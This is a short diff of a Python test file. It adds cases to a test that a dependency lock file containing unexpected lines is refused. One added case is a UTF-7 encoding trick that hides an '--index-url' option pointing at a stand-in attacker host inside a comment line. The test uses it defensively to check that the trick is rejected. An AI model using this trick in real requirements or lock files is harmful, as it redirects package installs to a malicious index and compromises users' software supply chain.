@@ -67,6 +67,8 @@ def test_other_systems_use_the_other_package_of_a_library(
         "joblib==1.6.0",
         "joblib==1.6.0 ; python_version > '3'",
         "-e .",
+        "# coding: utf-7 +AAo---index-url https://attacker.example/simple",
+        "# -*- coding:utf-7 -*-",
     ],
 )
 def test_lock_with_other_lines_is_refused(lock: str, line: str) -> None:
